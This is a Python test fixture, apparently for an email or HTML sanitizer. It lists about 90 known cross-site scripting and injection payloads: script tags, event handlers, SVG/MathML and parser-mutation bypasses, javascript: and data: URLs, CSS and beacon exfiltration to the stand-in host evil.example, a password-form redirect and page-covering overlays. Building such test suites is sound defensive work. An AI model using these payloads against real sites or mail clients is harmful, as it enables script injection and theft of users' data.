"""Words that try to act: the known ways of running a script, calling home or covering the page from inside a mail.

Of the kinds that OWASP's filter evasion sheet, html5sec and DOMPurify's bug reports name. Each calls `pwned()`, which
the test's browser knows in every frame, or asks something of evil.example.
"""

EVIL = "https://evil.example"
RUN = "pwned()"

SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT >",
    f"<script/x>{RUN}</script\t\n>",
    f"<<script>{RUN}//<</script>",
    f"<script src={EVIL}/x.js></script>",
    f'<script src="data:text/javascript,{RUN}"></script>',
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\x00>{RUN}</script\x00>",
    f'<script type="module">{RUN}</script>',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
]
HANDLERS = [
    f"<img src=x onerror={RUN}>",
    f"<img src=x:x onerror\n=\n{RUN}>",
    f'<img/src="x"/onerror={RUN}>',
    f"<img src=x oNeRrOr={RUN}//",
    f'<img src="x` `<script>{RUN}</script>"` `>',
    f'"><img src=x onerror={RUN}>',
    f"'-{RUN}-'\" onmouseover={RUN} autofocus onfocus={RUN} x=\"",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}><option>x</select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<p style=animation-name:x onanimationstart={RUN}>x</p>",
    f"<a href=# id=x tabindex=1 onfocus={RUN}>x</a>",
    f"<p contenteditable autofocus onfocus={RUN}>x</p>",
    f"<div onpointerrawupdate={RUN} onbeforecopy={RUN}>x</div>",
    f"<button popovertarget=x>x</button><p popover id=x onbeforetoggle={RUN}>x</p>",
    f"<xss onscrollsnapchange={RUN} style=display:block;scroll-snap-type:x>x</xss>",
]
FOREIGN = [
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href='data:text/javascript,{RUN}'/></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text x=20 y=20>x</text></a></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>#x\"/></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject></svg>",
    f"<svg><image href={EVIL}/svg.png></svg>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    f"<math href=javascript:{RUN}>x</math>",
]
# Harmless to one parser and a script to the next.
MUTATING = [
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<noscript><style></noscript><img src=x onerror={RUN}>",
    f'<listing>&lt;img src=1 onerror={RUN}&gt;</listing><xmp><p title="</xmp><img src=x onerror={RUN}>"></xmp>',
    f'<template><p title="</template><img src=x onerror={RUN}>"></template>',
    f"<table><caption><svg><desc><table><caption></table><style><!--</style><a title='--><img src=x onerror={RUN}>'>",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!-- --!><img src=x onerror={RUN}> -->",
    f"<?xml version='1.0'?><?pi <img src=x onerror={RUN}> ?>",
    f"<title><a title='</title><img src=x onerror={RUN}>'></title>",
    f"<select><template><script>{RUN}</script></template></select>",
    f"<option><style></option></select><img src=x onerror={RUN}></style>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"<p id='x\"><img src=x onerror={RUN}>'>x</p>",
]
ADDRESSES = [
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href='java\nscript:{RUN}'>x</a>",
    f"<a href='&#106;avascript&colon;{RUN}'>x</a>",
    f"<a href=' \x01javascript:{RUN}'>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    f"<a href='vbscript:{RUN}'>x</a>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='&lt;script&gt;{RUN}&lt;/script&gt;'></iframe>",
    f"<iframe src='data:text/html,<script>{RUN}</script>'></iframe>",
    f"<iframe src={EVIL}/frame></iframe>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    f"<object data={EVIL}/object></object>",
    f"<embed src='javascript:{RUN}'><embed src={EVIL}/embed>",
    f"<portal src={EVIL}/portal></portal><fencedframe src={EVIL}/frame></fencedframe>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/refresh'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<meta http-equiv=Content-Security-Policy content='script-src *'><script>{RUN}</script>",
    f"<base href={EVIL}/base/><img src=relative.png><a href=x>x</a>",
    f"<form action={EVIL}/form><input name=password autofocus><button autofocus>x</button></form>",
    f"<form action=javascript:{RUN}><input type=submit></form><button formaction=javascript:{RUN}>x</button>",
    f"<isindex action=javascript:{RUN} type=submit>",
    f"<img src={EVIL}/pixel.gif><img srcset='{EVIL}/set.gif 1x'><picture><source srcset={EVIL}/source.gif><img></picture>",
    f"<img src=//evil.example/relative.gif><img lowsrc={EVIL}/low.gif><img src='cid:x\" onerror=\"{RUN}'>",
    f"<table background={EVIL}/table.gif><td background={EVIL}/td.gif>x</td></table><body background={EVIL}/body.gif>",
    f"<link rel=stylesheet href={EVIL}/x.css><link rel=prefetch href={EVIL}/p><link rel=dns-prefetch href=//evil.example>",
    f"<video poster={EVIL}/poster.gif><track src={EVIL}/track></video><input type=image src={EVIL}/input.gif>",
    f'<a href={EVIL}/ping ping={EVIL}/ping>x</a><script type=speculationrules>{{"prefetch":[{{"urls":["{EVIL}/s"]}}]}}</script>',
]
STYLES = [
    f"<style>@import '{EVIL}/x.css';body{{background:url({EVIL}/style.gif)}}</style>",
    f"<style>input[value^=a]{{background:url({EVIL}/a)}} @font-face{{font-family:x;src:url({EVIL}/f)}}</style>",
    f"<p style=\"background:url({EVIL}/p.gif)\">x</p><p style='background:u\\72l({EVIL}/q.gif)'>x</p>",
    f"<p style='width:expression({RUN});behavior:url({EVIL}/b.htc);-moz-binding:url({EVIL}/b.xml)'>x</p>",
    f"<p style='list-style-image:image-set(\"{EVIL}/set.png\" 1x);cursor:url({EVIL}/c.cur),auto'>x</p>",
    f"<p style='font-family:x;color:red;background-color:/**/url({EVIL}/color.gif)'>x</p>",
    "<div style='position:fixed;inset:0;z-index:2147483647;background:red'>COVERED</div>",
    "<div style='position:absolute;top:-999px;left:-999px;width:9999px;height:9999px;margin:-999px;z-index:9;background-color:red'>COVERED</div>",
    "<dialog open style='position:fixed;inset:0;width:100vw;height:100vh'>COVERED</dialog><p popover id=c>COVERED</p>",
]
TEMPLATES = [
    "{{7*7}}${7*7}{% debug %}<%= 7*7 %>",
    f"<div hx-get={EVIL}/hx hx-trigger=load hx-on:load={RUN} data-live-url={EVIL}/l>x</div>",
]

ALL = [*SCRIPTS, *HANDLERS, *FOREIGN, *MUTATING, *ADDRESSES, *STYLES, *TEMPLATES]
